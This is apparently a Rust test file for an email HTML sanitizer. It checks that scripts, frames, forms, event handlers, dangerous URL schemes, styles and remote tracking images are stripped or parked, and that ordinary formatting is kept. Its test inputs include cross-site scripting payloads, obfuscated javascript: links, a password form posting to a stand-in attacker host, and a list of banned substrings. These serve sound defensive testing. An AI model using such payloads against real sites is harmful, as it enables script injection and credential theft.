//! sanitize_html against hostile HTML.

use parley_mime::{load_remote_images, sanitize_html};

fn no_cids(_: &str) -> Option<String> {
    None
}

fn clean(html: &str) -> String {
    sanitize_html(html, &no_cids)
}

#[test]
fn scripts_and_active_content_are_removed() {
    let out = clean(
        r#"<p>Hi</p><script>alert(1)</script><SCRIPT src="https://evil.example/x.js"></SCRIPT>
<iframe src="https://evil.example">frame text</iframe><object data="x.swf">obj</object><embed src="x.swf">
<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>
<svg><script>alert(2)</script></svg><math><mi>x</mi></math><noscript>ns</noscript>"#,
    );
    let lower = out.to_lowercase();
    for banned in [
        "<script",
        "alert(",
        "<iframe",
        "frame text",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<svg",
        "<math",
        "evil.example",
    ] {
        assert!(!lower.contains(banned), "{banned} survived in {out}");
    }
    assert!(out.contains("<p>Hi</p>"), "{out}");
    assert!(out.contains("Send"), "form text is kept as text: {out}");
}

#[test]
fn event_handlers_are_removed() {
    let out =
        clean(r#"<img src="x" onerror="alert(1)"><div onclick="steal()" onmouseover=x>t</div><body onload=evil()>"#);
    let lower = out.to_lowercase();
    assert!(
        !lower.contains("onerror")
            && !lower.contains("onclick")
            && !lower.contains("onmouseover")
            && !lower.contains("onload"),
        "{out}"
    );
    assert!(!lower.contains("alert") && !lower.contains("steal"), "{out}");
    assert!(out.contains("<div>t</div>"), "{out}");
}

#[test]
fn dangerous_urls_are_removed_and_links_are_safe() {
    let out = clean(
        r#"<a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt&#58;alert(2)">js2</a> <a href=" java&#x09;script:alert(3)">js3</a>
<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
<a href="https://example.org/help?a=1&amp;b=2">ok</a> <a href="mailto:help@example.org">mail</a> <a href="/relative">rel</a>"#,
    );
    let lower = out.to_lowercase();
    assert!(!lower.contains("javascript") && !lower.contains("vbscript") && !lower.contains("data:"), "{out}");
    assert!(
        out.contains(r#"<a href="https://example.org/help?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">ok</a>"#)
            || out.contains(r#"<a href="https://example.org/help?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">ok</a>"#),
        "{out}"
    );
    assert!(out.contains(r#"href="mailto:help@example.org""#), "{out}");
    assert!(!out.contains("/relative"), "relative links mean nothing in mail: {out}");
    assert_eq!(out.matches("noopener noreferrer nofollow").count(), 8, "every link gets rel: {out}");
    assert_eq!(out.matches(r#"target="_blank""#).count(), 8, "{out}");
}

#[test]
fn styles_are_dropped_entirely() {
    let out = clean(
        r#"<style>body { background: url(https://track.example/p.gif) }</style><p style="background:url(https://track.example/q)">x</p><link rel="stylesheet" href="https://track.example/s.css"><table background="https://track.example/t.gif"><tr><td>c</td></tr></table>"#,
    );
    assert!(!out.contains("track.example"), "{out}");
    assert!(!out.contains("style") && !out.contains("background"), "{out}");
    assert!(out.contains("<p>x</p>"), "{out}");
}

#[test]
fn remote_images_do_not_load() {
    let out = clean(
        r#"<img src="https://tracker.example/open.gif?u=1&amp;m=2" alt="logo" width="10"><img src="HTTP://x.example/a.png" srcset="https://x.example/b.png 2x">"#,
    );
    assert!(!out.contains(" src="), "no image loads: {out}");
    assert!(out.contains(r#"data-remote-src="https://tracker.example/open.gif?u=1&amp;m=2""#), "{out}");
    assert!(out.contains(r#"data-remote-src="HTTP://x.example/a.png""#), "{out}");
    assert!(out.contains(r#"alt="logo""#) && out.contains(r#"width="10""#), "{out}");
    assert!(!out.contains("srcset"), "{out}");
}

#[test]
fn remote_images_load_only_when_asked_and_without_a_referrer() {
    let parked = clean(
        r#"<p>Hi</p><img src="https://tracker.example/open.gif?u=1&amp;m=2" alt="logo"><img src="data:image/png;base64,iVBO" alt="inline">"#,
    );
    let loaded = load_remote_images(&parked);
    assert!(
        loaded.contains(
            r#"<img src="https://tracker.example/open.gif?u=1&amp;m=2" alt="logo" referrerpolicy="no-referrer">"#
        ),
        "{loaded}"
    );
    assert!(
        loaded.contains(r#"<img src="data:image/png;base64,iVBO" alt="inline">"#),
        "inline images unchanged: {loaded}"
    );
    assert!(!loaded.contains("data-remote-src"), "{loaded}");
    assert!(loaded.contains("<p>Hi</p>"), "{loaded}");
    // Only what was parked as http(s) is let back in, whatever else a parked attribute holds.
    let forged = load_remote_images(r#"<img data-remote-src="javascript:alert(1)" referrerpolicy="unsafe-url">"#);
    assert_eq!(forged, "<img>");
}

#[test]
fn cid_images_are_mapped_and_unknown_ones_removed() {
    let map = |cid: &str| match cid {
        "logo@example.org" => Some("/api/files/7?a=1&b=2".to_string()),
        "evil@example.org" => Some("javascript:alert(1)".to_string()),
        _ => None,
    };
    let out = sanitize_html(
        r#"<img src="cid:logo@example.org"><img src="CID:logo%40example.org"><img src="cid:unknown@example.org" alt="u"><img src="cid:evil@example.org">"#,
        &map,
    );
    assert_eq!(out.matches(r#"src="/api/files/7?a=1&amp;b=2""#).count(), 2, "{out}");
    assert!(out.contains(r#"<img alt="u">"#), "{out}");
    assert!(!out.contains("cid:") && !out.contains("javascript"), "{out}");
}

#[test]
fn only_inline_raster_data_images_are_kept() {
    let out = clean(
        r#"<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:image/gif,GIF89a"><img src="data:text/html,<script>">"#,
    );
    assert!(out.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#), "{out}");
    assert_eq!(out.matches("data:").count(), 1, "{out}");
}

#[test]
fn ordinary_formatting_is_kept() {
    let html = "<h1>Title</h1><p>Some <b>bold</b>, <strong>strong</strong>, <i>it</i>, <em>em</em>, <u>u</u> \
                <span>span</span><br>line</p><ul><li>a</li></ul><ol><li>b</li></ol><blockquote>q</blockquote>\
                <pre><code>code</code></pre><table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan=\"2\">d</td></tr></tbody></table>\
                <div>div</div><h6>small</h6>";
    let out = clean(html);
    for kept in [
        "<h1>Title</h1>",
        "<b>bold</b>",
        "<strong>strong</strong>",
        "<i>it</i>",
        "<em>em</em>",
        "<u>u</u>",
        "<span>span</span>",
        "<br>",
        "<ul><li>a</li></ul>",
        "<ol><li>b</li></ol>",
        "<blockquote>q</blockquote>",
        "<pre><code>code</code></pre>",
        "<th>h</th>",
        r#"<td colspan="2">d</td>"#,
        "<div>div</div>",
        "<h6>small</h6>",
        "<table>",
        "<tbody>",
    ] {
        assert!(out.contains(kept), "{kept} lost in {out}");
    }
}

#[test]
fn text_that_looks_like_markup_stays_text() {
    let out = clean(r#"&lt;img src="https://x.example/a.png"&gt; and src="cid:x" in text"#);
    assert!(out.contains("&lt;img"), "{out}");
    assert!(!out.contains("<img"), "{out}");
    assert!(out.contains(r#"src="cid:x" in text"#), "text is untouched: {out}");
}

#[test]
fn deeply_nested_html_is_bounded_in_time_and_stack() {
    // html5ever alone needs minutes for this (quadratic in depth); the nesting cap makes it linear.
    let depth = 50_000;
    let html = format!("{}deep{}", "<div><i>".repeat(depth), "</i></div>".repeat(depth));
    let started = std::time::Instant::now();
    let (cleaned, text) = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || (clean(&html), parley_mime::html_to_text(&html)))
        .unwrap()
        .join()
        .unwrap();
    let elapsed = started.elapsed();
    assert!(elapsed < std::time::Duration::from_secs(5), "took {elapsed:?}");
    assert!(cleaned.contains("deep") && cleaned.len() < 10_000, "{}", cleaned.len());
    assert_eq!(text, "deep");
}
